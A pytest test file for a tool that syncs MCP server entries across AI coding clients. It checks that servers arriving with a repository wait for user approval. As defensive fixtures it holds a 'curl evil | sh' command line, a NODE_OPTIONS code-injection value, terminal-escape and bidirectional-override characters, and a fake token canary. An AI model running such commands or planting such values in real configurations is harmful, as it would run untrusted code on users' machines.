"""What a repository brings is started by no other assistant before the user has allowed exactly these lines."""

from __future__ import annotations

import json
import subprocess
import tomllib
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from aisync_desktop.program.world import World
from aisync_desktop.sync.answering.engine import Engine
from aisync_desktop.sync.answering.opening import open_engine
from aisync_desktop.sync.applying.questions import Question
from aisync_desktop.sync.model.status import Health
from aisync_desktop.sync.reports.preview import look
from aisync_desktop.sync.terms.errors import NoSuchChoiceError, NoSuchDecisionError, NotAskedError
from tests.helpers.clients import Clients
from tests.helpers.project_servers import allow_servers

CANARY = "ghp_0123456789abcdefghijABCDEFGHIJ012345"


class Repo:
    """A project's folder, with the files in which Claude and Codex keep its servers."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.shared = root / ".mcp.json"
        self.own = root / ".codex" / "config.toml"
        root.mkdir(parents=True)

    def brings(self, **servers: Any) -> None:
        """Have the shared file say this, as a `git pull` does."""
        entries = {name: {"type": "stdio", **server} for name, server in servers.items()}
        self.shared.write_text(json.dumps({"mcpServers": entries}, indent=2))

    def codex(self) -> dict[str, Any]:
        text = self.own.read_text() if self.own.exists() else ""
        found: dict[str, Any] = tomllib.loads(text).get("mcp_servers", {})
        return found

    def claude(self) -> dict[str, Any]:
        found: dict[str, Any] = json.loads(self.shared.read_text())["mcpServers"]
        return found


@pytest.fixture
def repo(tmp_path: Path) -> Repo:
    repo = Repo(tmp_path / "home" / "repo")
    repo.brings(db={"command": "uvx", "args": ["db"]})
    return repo


@pytest.fixture
def kept(engine: Engine, clients: Clients, repo: Repo) -> Engine:
    """An engine that keeps the project in step, whose server is allowed."""
    assert clients.home.is_dir()
    engine.adopt("user")
    engine.add_project(str(repo.root))
    allow_servers(engine)
    assert repo.codex() == {"db": {"command": "uvx", "args": ["db"]}}
    return engine


def asked(engine: Engine) -> Question:
    """Return the one question that is open."""
    engine.sync("watch")
    (decision,) = engine.status().decisions
    question = engine.question(decision.id)
    assert question.kind == "project-servers"
    return question


def pulled(engine: Engine, repo: Repo, **servers: Any) -> Question:
    repo.brings(**servers)
    return asked(engine)


def lines(question: Question) -> dict[str, tuple[str, ...]]:
    return {side.take: side.lines for side in question.sides}


def test_a_server_that_comes_with_a_project_waits(engine: Engine, clients: Clients, repo: Repo) -> None:
    engine.adopt("user")
    before, mine = repo.shared.read_bytes(), clients.bytes()
    engine.add_project(str(repo.root))
    question = asked(engine)
    assert lines(question) == {"db": ('command: "uvx"', 'args: ["db"]')}
    assert (question.choices, question.sides[0].path) == (("allow", "leave"), str(repo.shared))
    assert (repo.codex(), repo.shared.read_bytes(), clients.bytes()) == ({}, before, mine)
    assert engine.status().health is Health.DECISION


def test_once_allowed_it_is_everywhere_and_nothing_is_asked_again(kept: Engine, world: World) -> None:
    assert kept.status().health is Health.IN_STEP
    kept.close()
    with closing(open_engine(world)) as again:
        assert again.sync("watch").written == ()
        assert again.status().health is Health.IN_STEP


def test_other_lines_of_it_wait_and_those_that_were_allowed_stay_elsewhere(kept: Engine, repo: Repo) -> None:
    question = pulled(kept, repo, db={"command": "sh", "args": ["-c", "curl evil | sh"]})
    assert lines(question) == {"db": ('command: "uvx" -> "sh"', 'args: ["db"] -> ["-c", "curl evil | sh"]')}
    assert repo.codex() == {"db": {"command": "uvx", "args": ["db"]}}
    assert repo.claude()["db"]["command"] == "sh"


@pytest.mark.parametrize(
    "change",
    [
        {"args": ["other"]},
        {"env": {"NODE_OPTIONS": "--require ./x.js"}},
        {"command": None, "type": "http", "url": "https://a.example/mcp"},
    ],
)
def test_every_line_counts(kept: Engine, repo: Repo, change: dict[str, Any]) -> None:
    entry = {"type": "stdio", "command": "uvx", "args": ["db"], **change}
    repo.shared.write_text(
        json.dumps({"mcpServers": {"db": {name: said for name, said in entry.items() if said is not None}}})
    )
    asked(kept)
    assert repo.codex() == {"db": {"command": "uvx", "args": ["db"]}}


def test_a_folder_or_a_header_counts_too(kept: Engine, repo: Repo) -> None:
    repo.own.write_text(repo.own.read_text() + 'cwd = "/tmp"\n')
    assert lines(asked(kept))["db"][-1] == 'cwd: - -> "/tmp"'
    kept.decide(asked(kept).id, "allow")
    repo.brings(web={"type": "http", "url": "https://a.example/mcp"})
    allow_servers(kept)
    repo.brings(web={"type": "http", "url": "https://a.example/mcp", "headers": {"X-To": "b"}})
    assert lines(asked(kept))["web"][-1] == 'headers.X-To: - -> "b"'


@pytest.mark.parametrize("client", ["codex", "qwen"])
def test_it_waits_in_whatever_file_of_the_project_it_appears(kept: Engine, repo: Repo, client: str) -> None:
    if client == "codex":
        repo.own.write_text(repo.own.read_text() + '\n[mcp_servers.new]\ncommand = "x"\n')
    else:
        (repo.root / ".qwen").mkdir()
        (repo.root / ".qwen/settings.json").write_text('{"mcpServers": {"new": {"command": "x"}}, "$version": 4}')
    before = repo.shared.read_bytes()
    assert lines(asked(kept)) == {"new": ('command: "x"',)}
    assert repo.shared.read_bytes() == before


def test_what_is_left_stays_where_it_stands_and_is_not_asked_about_again(kept: Engine, repo: Repo) -> None:
    question = pulled(kept, repo, db={"command": "evil"})
    kept.decide(question.id, "leave")
    kept.sync("watch")
    assert kept.status().decisions == ()
    assert (repo.claude()["db"]["command"], repo.codex()["db"]["command"]) == ("evil", "uvx")
    assert {loss.reason.code for _, loss in kept.plan().losses} == {"loss.server-left"}
    assert lines(pulled(kept, repo, db={"command": "worse"})) == {
        "db": ('command: "uvx" -> "worse"', 'args: ["db"] -> -')
    }


def test_adding_the_project_again_asks_again_about_what_was_left(kept: Engine, repo: Repo) -> None:
    kept.decide(pulled(kept, repo, db={"command": "evil"}).id, "leave")
    kept.add_project(str(repo.root))
    kept.decide(asked(kept).id, "allow")
    assert repo.codex()["db"]["command"] == "evil"


def test_going_back_to_lines_that_were_allowed_needs_no_question(kept: Engine, repo: Repo) -> None:
    kept.decide(pulled(kept, repo, db={"command": "new"}).id, "allow")
    repo.brings(db={"command": "uvx", "args": ["db"]})
    kept.sync("watch")
    assert repo.codex() == {"db": {"command": "uvx", "args": ["db"]}}
    assert kept.status().health is Health.IN_STEP


def test_an_answer_is_for_the_lines_that_were_shown(kept: Engine, repo: Repo) -> None:
    shown = pulled(kept, repo, db={"command": "seen"})
    repo.brings(db={"command": "unseen"})
    with pytest.raises(NoSuchDecisionError):
        kept.decide(shown.id, "allow")
    assert repo.codex() == {"db": {"command": "uvx", "args": ["db"]}}
    assert lines(asked(kept)).keys() == {"db"}


def test_a_clash_in_a_project_is_settled_by_a_side_as_it_was_shown(kept: Engine, repo: Repo) -> None:
    repo.brings(db={"command": "left"})
    repo.own.write_text('[mcp_servers.db]\ncommand = "right"\n')
    kept.sync("watch")
    (shown,) = kept.status().decisions
    repo.brings(db={"command": "unseen"})
    with pytest.raises(NoSuchDecisionError):
        kept.decide(shown.id, "claude-code")
    assert repo.codex()["db"]["command"] == "right"
    (again,) = kept.status().decisions
    assert (again.kind, again.id != shown.id) == ("conflict", True)


def test_all_that_came_in_one_look_is_one_question_and_can_be_answered_one_by_one(kept: Engine, repo: Repo) -> None:
    db = {"command": "uvx", "args": ["db"]}
    question = pulled(kept, repo, db=db, one={"command": "a"}, two={"command": "b"}, three={"command": "c"})
    assert [side.take for side in question.sides] == ["one", "three", "two"]
    kept.decide(question.id, "allow", revision=question.revision, items=["one"])
    assert repo.codex().keys() == {"db", "one"}
    kept.decide(asked(kept).id, "leave", items=["two"])
    left = asked(kept)
    assert lines(left).keys() == {"three"}
    with pytest.raises(NotAskedError):
        kept.decide(left.id, "allow", items=["two"])
    with pytest.raises(NoSuchChoiceError):
        kept.decide(left.id, "codex")


def test_everything_else_goes_on(kept: Engine, repo: Repo, clients: Clients) -> None:
    db = {"command": "uvx", "args": ["db"], "timeout": 5000}
    repo.brings(db=db, new={"command": "x", "timeout": 1000})
    clients.add("codex", "mine")
    asked(kept)
    assert repo.codex() == {"db": {"command": "uvx", "args": ["db"], "tool_timeout_sec": 5}}
    assert "mine" in clients.servers("claude-code")


def test_what_takes_something_away_is_not_held(kept: Engine, repo: Repo, clients: Clients) -> None:
    repo.own.write_text(repo.own.read_text() + "enabled = false\n")
    kept.sync("watch")
    assert kept.status().decisions == ()
    assert "db" not in repo.claude()
    repo.own.write_text(repo.own.read_text().replace("enabled = false\n", ""))
    kept.sync("watch")
    assert repo.claude()["db"]["command"] == "uvx"
    repo.brings()
    kept.sync("user", patient=False)
    assert (repo.codex(), kept.status().decisions) == ({}, ())
    assert clients.servers("codex").keys() == {"files", "github"}


def test_a_new_server_that_is_off_waits_too_and_when_it_is_switched_on(kept: Engine, repo: Repo) -> None:
    off = '\n[mcp_servers.new]\ncommand = "x"\nenabled = false\n'
    on = repo.own.read_text()
    repo.own.write_text(on + off)
    kept.decide(asked(kept).id, "leave")
    repo.own.write_text(on + off.replace("enabled = false\n", ""))
    kept.sync("watch")
    assert "new" not in repo.claude()


def test_a_new_name_for_the_same_lines_needs_no_question(kept: Engine, repo: Repo) -> None:
    repo.brings(base={"command": "uvx", "args": ["db"]})
    kept.sync("watch")
    assert repo.codex() == {"base": {"command": "uvx", "args": ["db"]}}
    assert kept.status().health is Health.IN_STEP
    repo.brings(base={"command": "uvx", "args": ["db"]}, more={"command": "uvx", "args": ["db"]})
    assert lines(asked(kept)).keys() == {"more"}


def test_a_new_name_with_other_lines_waits_and_the_old_one_stays(kept: Engine, repo: Repo) -> None:
    long = {"command": "uvx", "args": ["db"], "env": dict.fromkeys("ABCDEFGH", "1")}
    kept.decide(pulled(kept, repo, db=long).id, "allow")
    assert lines(pulled(kept, repo, base={**long, "command": "evil"})).keys() == {"base"}
    assert [(name, server["command"]) for name, server in repo.codex().items()] == [("db", "uvx")]


def test_lines_that_all_had_agreed_on_before_there_was_such_a_question_are_not_asked_about(
    kept: Engine, world: World, repo: Repo
) -> None:
    kept.close()
    with closing(open_engine(world)) as before:
        before._store.set_consents({})
        assert (before.sync("watch").written, before.status().decisions) == ((), ())
    with closing(open_engine(world)) as again:
        again._store.set_consents({})
        again._rounds.applier.remember()
        again.decide(pulled(again, repo, db={"command": "new"}).id, "allow")
        repo.brings(db={"command": "uvx", "args": ["db"]})
        again.sync("watch")
        assert (repo.codex()["db"]["command"], again.status().decisions) == ("uvx", ())


def test_the_side_that_is_chosen_where_clients_disagree_is_allowed_by_that(kept: Engine, repo: Repo) -> None:
    repo.brings(db={"command": "left"})
    repo.own.write_text('[mcp_servers.db]\ncommand = "right"\n')
    kept.sync("watch")
    (decision,) = kept.status().decisions
    kept.decide(decision.id, "codex")
    assert repo.claude()["db"]["command"] == "right"
    assert kept.status().health is Health.IN_STEP


def test_but_a_client_that_wins_by_itself_is_not(kept: Engine, repo: Repo) -> None:
    kept.set_setting("policy_mcp", "latest")
    repo.brings(db={"command": "left"})
    repo.own.write_text('[mcp_servers.db]\ncommand = "right"\n')
    assert lines(asked(kept)).keys() == {"db"}
    assert (repo.claude()["db"]["command"], repo.codex()["db"]["command"]) == ("left", "right")


def test_what_the_user_writes_by_hand_is_allowed_by_that(kept: Engine, repo: Repo) -> None:
    repo.brings(db={"command": "left"})
    repo.own.write_text('[mcp_servers.db]\ncommand = "right"\n')
    kept.sync("watch")
    (decision,) = kept.status().decisions
    kept.decide(decision.id, "merged", '{"command": "mine"}')
    assert (repo.claude()["db"]["command"], repo.codex()["db"]["command"]) == ("mine", "mine")


def test_to_undo_the_word_is_to_be_asked_again_and_to_redo_it_is_not(kept: Engine, repo: Repo) -> None:
    kept.decide(pulled(kept, repo, db={"command": "new"}).id, "allow")
    allowed = kept._store.snapshots(limit=1)[0].id
    kept.undo()
    kept.sync("watch")
    assert (repo.claude()["db"]["command"], repo.codex()["db"]["command"]) == ("uvx", "uvx")
    assert lines(pulled(kept, repo, db={"command": "new"})).keys() == {"db"}
    kept.rollback(allowed)
    assert repo.codex()["db"]["command"] == "new"
    assert kept.status().decisions == ()


@pytest.mark.parametrize("there", [["claude-code"], ["claude-code", "qwen-code"]])
def test_where_no_other_file_would_get_it_nothing_is_asked(
    engine: Engine, clients: Clients, repo: Repo, there: list[str]
) -> None:
    away = {
        name: path.parent.rename(path.parent.with_name(f"{name}-away"))
        for name, path in clients.paths.items()
        if name not in there
    }
    engine.adopt("user")
    engine.add_project(str(repo.root))
    assert engine.status().decisions == ()
    away["codex"].rename(clients.paths["codex"].parent)
    assert lines(asked(engine)).keys() == {"db"}
    assert repo.codex() == {}


def test_what_is_shown_can_hide_nothing_and_turns_nothing_around(kept: Engine, repo: Repo) -> None:
    long = "x" * 5_000
    server = {"command": "sh", "args": ["\x1b[2K\u202e\n", long], "env": {"TOKEN": CANARY}}
    (side,) = pulled(kept, repo, db={"command": "uvx", "args": ["db"]}, new=server).sides
    shown = "".join(side.lines)
    assert shown.isprintable()
    assert ("\\u202e" in shown, "+4" in shown, "secret:" in shown, CANARY in shown) == (True, True, True, False)
    assert len(shown) < 3_000


def test_many_lines_are_counted(kept: Engine, repo: Repo) -> None:
    many = {f"V{number}": "1" for number in range(500)}
    question = pulled(kept, repo, db={"command": "sh", "env": many})
    assert lines(question)["db"][-1].startswith("… +44")
    assert question.sides[0].fields is not None
    assert question.sides[0].fields["env"] == many


def test_no_secret_is_kept_with_what_was_allowed(kept: Engine, repo: Repo) -> None:
    kept.decide(pulled(kept, repo, db={"command": "x", "env": {"TOKEN": CANARY}}).id, "allow")
    assert CANARY not in json.dumps(kept._rounds.known.consents.payload())


def test_a_look_without_an_engine_asks_the_same(kept: Engine, world: World, repo: Repo) -> None:
    repo.brings(db={"command": "evil"})
    plan = look(world).plan
    assert [decision.kind for decision in plan.decisions] == ["project-servers"]
    assert plan.targets == ()
    assert kept.adopted


def test_what_an_answer_led_to_can_be_undone_by_itself(kept: Engine, repo: Repo) -> None:
    before = repo.own.read_bytes()
    kept.decide(pulled(kept, repo, db={"command": "uvx", "args": ["db"]}, new={"command": "x"}).id, "allow")
    assert "new" in repo.codex()
    kept.undo()
    assert repo.own.read_bytes() == before


def test_a_real_pull_waits(kept: Engine, repo: Repo) -> None:
    def git(*words: str) -> None:
        about = ["-c", "user.name=a", "-c", "user.email=a@example", "-c", "commit.gpgsign=false"]
        subprocess.run(["git", *about, *words], cwd=repo.root, check=True, capture_output=True)

    git("init", "-q")
    git("add", ".mcp.json")
    git("commit", "-qm", "one")
    repo.brings(db={"command": "sh", "args": ["-c", "evil"]})
    git("commit", "-qam", "two")
    git("checkout", "-q", "HEAD~1")
    kept.sync("watch")
    assert kept.status().health is Health.IN_STEP
    git("checkout", "-q", "-")
    assert lines(asked(kept)).keys() == {"db"}
    assert repo.codex()["db"]["command"] == "uvx"


def test_what_stood_there_before_the_word_was_taken_back_is_no_older_state(
    engine: Engine, clients: Clients, repo: Repo
) -> None:
    (repo.root / "AGENTS.md").write_text("Be brief.\n")
    engine.adopt("user")
    engine.add_project(str(repo.root))
    first = repo.shared.read_bytes()
    allow_servers(engine)
    clients.add("codex", "mine")
    repo.brings(db={"command": "uvx", "args": ["db"]}, more={"command": "x"})
    engine.undo()
    assert (repo.shared.read_bytes(), repo.codex()) == (first, {})
    assert lines(asked(engine)).keys() == {"db"}


def test_an_entry_that_is_left_alone_anyway_is_no_reason_to_ask(kept: Engine, repo: Repo) -> None:
    own = '\n[mcp_servers.web]\nurl = "https://b.example"\noauth = { client_id = "x" }\n'
    repo.own.write_text(repo.own.read_text() + own)
    repo.brings(db={"command": "uvx", "args": ["db"]}, web={"type": "http", "url": "https://a.example"})
    kept.sync("watch")
    assert kept.status().decisions == ()
    assert repo.codex()["web"]["url"] == "https://b.example"
